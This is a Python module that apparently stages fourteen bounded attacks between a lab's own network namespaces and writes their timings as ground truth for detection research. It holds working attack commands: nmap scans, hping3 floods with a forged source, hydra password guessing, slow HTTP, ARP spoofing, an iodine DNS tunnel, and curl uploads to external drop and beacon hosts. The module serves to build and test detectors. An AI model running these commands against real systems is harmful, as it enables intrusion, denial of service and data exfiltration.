"""Fourteen attacks, bounded in count and time, between the lab's own namespaces; and their truth.

The truth is written by construction: an episode begins just before its first program starts and
ends after its last one has ended. Episodes do not overlap and leave QUIET_S between them; only the
beacon runs beside others.
"""

import contextlib
import csv
import random
import signal
import subprocess
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from office import (
    BEACON_NUMBER,
    BY_NAME,
    DROP_NUMBER,
    PRINTER_NUMBER,
    TUNNEL_NUMBER,
    Office,
    lan4,
    wan4,
)
from services import TUNNEL_DOMAIN, TUNNEL_PASSWORD, WORDS

FIRST_START_S = 95.0
LAST_S = 30.0
"""Seconds of ordinary traffic after the last slot."""
LIMIT_S = 70.0
"""No episode but the beacon takes longer."""
QUIET_S = 20.0
SLOT_S = LIMIT_S + QUIET_S + 10
BEACON_S, BEACON_GAP_S = 300.0, 12.0
HEADER = ("episode", "kind", "start_ns", "end_ns", "src", "dst", "dst_port", "proto", "note")

ATTACKER = lan4(BY_NAME["visitor"].number)


def address(name: str) -> str:
    """IPv4 address of a host of the office."""
    return lan4(BY_NAME[name].number)


@dataclass
class Stage:
    """Where attacks run: the office, random numbers, and the time when the episode must end."""

    office: Office
    rng: random.Random
    limit_s: float = LIMIT_S
    ends: float = field(default=0.0)

    def __post_init__(self) -> None:
        self.ends = time.monotonic() + self.limit_s

    def left_s(self) -> float:
        """Seconds that the episode may still take."""
        return max(0.5, self.ends - time.monotonic())

    def begin(self, name: str, *argv: str) -> "subprocess.Popen[bytes]":
        """Start a program in a host's namespace."""
        with open(self.office.work / "attacks.log", "a") as log:
            print("$", name, *argv, file=log, flush=True)
            return subprocess.Popen(
                self.office.inside(name, *argv),
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
                cwd=self.office.work,
                start_new_session=True,
            )

    def finish(self, child: "subprocess.Popen[bytes]", limit_s: float) -> None:
        """Wait; what runs longer is interrupted, so that it can tidy up, then killed."""
        for signal_number in (signal.SIGINT, signal.SIGKILL):
            with contextlib.suppress(subprocess.TimeoutExpired):
                child.wait(limit_s)
                return
            child.send_signal(signal_number)
            limit_s = 8.0
        child.wait()

    def tool(self, name: str, *argv: str, limit_s: float | None = None) -> None:
        """Run a program to its end."""
        self.finish(self.begin(name, *argv), min(limit_s or LIMIT_S, self.left_s()))


Act = Callable[[Stage], None]


@dataclass(frozen=True, slots=True)
class Attack:
    """One kind of episode; the fields after `act` go into the truth."""

    kind: str
    act: Act
    src: str
    dst: str
    dst_port: str
    proto: str
    note: str


def nmap(*argv: str) -> Act:
    """A scan by nmap."""

    def act(stage: Stage) -> None:
        stage.tool("visitor", "nmap", "-n", "-v", "--max-retries", "1", *argv)

    return act


def flood(*argv: str) -> Act:
    """2500 packets by hping3, 250 a second."""

    def act(stage: Stage) -> None:
        stage.tool("visitor", "hping3", "-q", "-n", "-c", "2500", "-i", "u4000", *argv)

    return act


def guess(service: str, tasks: int, attempts: int) -> Act:
    """Guessing bob's password with hydra."""

    def act(stage: Stage) -> None:
        words = stage.office.work / "guesses"
        guesses = {f"{stage.rng.choice(WORDS)}{stage.rng.randrange(1000)}" for _ in range(attempts)}
        words.write_text("\n".join(sorted(guesses)) + "\n")
        stage.tool("visitor", "hydra", "-I", "-l", "bob", "-P", str(words), "-t", str(tasks),
                   f"{service}://{address('files')}")  # fmt: skip

    return act


def slow_http(stage: Stage) -> None:
    """40 connections that send a header line every few seconds."""
    stage.tool("visitor", "slowhttptest", "-H", "-c", "40", "-r", "4", "-i", "6", "-l", "45",
               "-p", "3", "-u", f"http://{address('web')}/")  # fmt: skip


def arp_spoofing(stage: Stage) -> None:
    """Stand between ws2 and the router, pass everything on."""
    stage.office.sysctl("visitor", "net.ipv4.conf.all.send_redirects=0",
                        "net.ipv4.conf.eth0.send_redirects=0", "net.ipv4.ip_forward=1")  # fmt: skip
    stage.tool("visitor", "arpspoof", "-i", "eth0", "-t", address("ws2"), "-r", address("gw"),
               limit_s=50)  # fmt: skip
    stage.office.sysctl("visitor", "net.ipv4.ip_forward=0")


def dns_tunnel(stage: Stage) -> None:
    """A page and a file fetched through names of a domain outside."""
    server = stage.begin("wan", "iodined", "-f", "-c", "-P", TUNNEL_PASSWORD, "-l",
                         wan4(TUNNEL_NUMBER), "10.99.0.1/27", TUNNEL_DOMAIN)  # fmt: skip
    time.sleep(1.0)
    client = stage.begin("ws3", "iodine", "-f", "-r", "-P", TUNNEL_PASSWORD, address("gw"),
                         TUNNEL_DOMAIN)  # fmt: skip
    time.sleep(15.0)
    for path in ("p/03", "big/00"):
        stage.tool("ws3", "curl", "-sS", "--limit-rate", "5k", "-m", "25", "-o", "/dev/null",
                   f"http://10.99.0.1/{path}", limit_s=26)  # fmt: skip
    stage.tool("ws3", "ping", "-n", "-c", "4", "10.99.0.1", limit_s=6)
    for child in (client, server):
        stage.finish(child, 0.1)


def exfiltration(stage: Stage) -> None:
    """4 MB to a host that nobody else talks to."""
    loot = stage.office.work / "loot"
    loot.write_bytes(stage.rng.randbytes(4_000_000))
    stage.tool("ws3", "curl", "-sk", "--limit-rate", "140k", "-o", "/dev/null", "--data-binary",
               f"@{loot}", f"https://{wan4(DROP_NUMBER)}/upload")  # fmt: skip


def beacon(stage: Stage) -> None:
    """A small check-in at nearly equal intervals."""
    while stage.left_s() > BEACON_GAP_S:
        began = time.monotonic()
        stage.tool("lap2", "curl", "-sk", "-m", "8", "-o", "/dev/null", "--data-binary",
                   f"id=7&n={stage.rng.getrandbits(64):016x}",
                   f"https://{wan4(BEACON_NUMBER)}/upload")  # fmt: skip
        gap = BEACON_GAP_S + stage.rng.uniform(-0.4, 0.4)
        time.sleep(max(0.0, began + gap - time.monotonic()))


WEB, FILES, MAIL, APP, MEDIA = (address(n) for n in ("web", "files", "mail", "app", "media"))
OFF = lan4(PRINTER_NUMBER)
ATTACKS = (
    Attack("tcp-connect-scan", nmap("-sT", "-Pn", "-p", "1-500", "--max-rate", "40", FILES),
           ATTACKER, FILES, "*", "tcp", "nmap -sT of 500 ports"),
    Attack("syn-scan", nmap("-sS", "-Pn", "-p", "1-800", "--max-rate", "60", APP),
           ATTACKER, APP, "*", "tcp", "nmap -sS of 800 ports"),
    Attack("udp-scan", nmap("-sU", "-Pn", "-p", "1-160", "--min-rate", "9", "--max-rate", "12",
                            MEDIA),
           ATTACKER, MEDIA, "*", "udp", "nmap -sU of 160 ports"),
    Attack("xmas-scan", nmap("-sX", "-Pn", "-p", "1-400", "--max-rate", "40", MAIL),
           ATTACKER, MAIL, "*", "tcp", "nmap -sX of 400 ports: FIN PSH URG"),
    Attack("host-sweep", nmap("-sn", "--send-ip", "-PE", "-PS22,443", "-PA80", "--max-rate", "30",
                              "10.77.0.0/25", "10.77.8.0/27"),
           ATTACKER, "*", "*", "*", "nmap -sn: ICMP echo and TCP to 160 addresses, most empty"),
    Attack("syn-flood", flood("-S", "-a", OFF, "-p", "80", WEB),
           OFF, WEB, "80", "tcp", "hping3: 2500 SYN by visitor; forged source, nobody there"),
    Attack("udp-flood", flood("--udp", "-d", "120", "-p", "5004", MEDIA),
           ATTACKER, MEDIA, "5004", "udp", "hping3: 2500 datagrams of 120 bytes to a closed port"),
    Attack("ssh-guessing", guess("ssh", 4, 60),
           ATTACKER, FILES, "22", "tcp", "hydra: up to 60 passwords of one user"),
    Attack("ftp-guessing", guess("ftp", 6, 60),
           ATTACKER, FILES, "21", "tcp", "hydra: up to 60 passwords of one user"),
    Attack("slow-http", slow_http,
           ATTACKER, WEB, "80", "tcp", "slowhttptest -H: 40 connections, headers never end"),
    Attack("arp-spoofing", arp_spoofing, address("gw"), address("ws2"), "*", "arp",
           "arpspoof both ways by visitor 10.77.0.66 (02:77:00:00:00:42): its MAC is given for "
           "src to dst and for dst to src; their traffic passes through it"),
    Attack("dns-tunnel", dns_tunnel, address("ws3"), address("gw"), "53", "udp",
           f"iodine through the office's resolver, names below {TUNNEL_DOMAIN}"),
    Attack("exfiltration", exfiltration, address("ws3"), wan4(DROP_NUMBER), "443", "tcp",
           "curl: 4 MB over HTTPS to a host that nobody else talks to"),
    Attack("beacon", beacon, address("lap2"), wan4(BEACON_NUMBER), "443", "tcp",
           f"curl: a small HTTPS POST every {BEACON_GAP_S:.0f} s; beside other episodes"),
)  # fmt: skip
KINDS = tuple(attack.kind for attack in ATTACKS)


def least_seconds(kinds: Sequence[str]) -> float:
    """The shortest recording that holds these episodes without overlap."""
    n_slots = sum(kind != "beacon" for kind in kinds)
    return FIRST_START_S + LAST_S + max(n_slots * SLOT_S, BEACON_S + 30 if "beacon" in kinds else 0)


class Schedule:
    """When each episode starts, and what really happened."""

    def __init__(
        self, office: Office, seconds: float, rng: random.Random, kinds: Sequence[str]
    ) -> None:
        self.office, self.rng = office, rng
        self.done: list[tuple[int, int, Attack]] = []
        self.threads: list[threading.Thread] = []
        alone = [a for a in ATTACKS if a.kind in kinds and a.kind != "beacon"]
        rng.shuffle(alone)
        slot_s = (seconds - FIRST_START_S - LAST_S) / max(1, len(alone))
        spare_s = slot_s - LIMIT_S - QUIET_S
        self.waiting = [
            (FIRST_START_S + i * slot_s + rng.uniform(0, spare_s), attack)
            for i, attack in enumerate(alone)
        ]
        latest_s = seconds - LAST_S - BEACON_S
        self.waiting += [
            (rng.uniform(FIRST_START_S, latest_s), a)
            for a in ATTACKS
            if a.kind in kinds and a.kind == "beacon"
        ]

    def start_due(self, elapsed_s: float) -> None:
        """Start every episode whose time has come."""
        for item in [item for item in self.waiting if item[0] <= elapsed_s]:
            self.waiting.remove(item)
            thread = threading.Thread(target=self._run, args=(item[1],), daemon=True)
            self.threads.append(thread)
            thread.start()

    def _run(self, attack: Attack) -> None:
        limit_s = BEACON_S if attack.kind == "beacon" else LIMIT_S - 10
        stage = Stage(self.office, random.Random(self.rng.random()), limit_s)
        start_ns = time.time_ns()
        attack.act(stage)
        time.sleep(0.5)  # the last packets cross the switch
        self.done.append((start_ns, time.time_ns(), attack))

    def wait(self) -> None:
        """Wait for the last episode."""
        for thread in self.threads:
            thread.join()

    def write(self, path: Path) -> None:
        """Write the truth, in the order of time."""
        with open(path, "w", newline="") as file:
            writer = csv.writer(file, lineterminator="\n")
            writer.writerow(HEADER)
            for i, (start_ns, end_ns, a) in enumerate(sorted(self.done, key=lambda d: d[0]), 1):
                writer.writerow(
                    (i, a.kind, start_ns, end_ns, a.src, a.dst, a.dst_port, a.proto, a.note)
                )
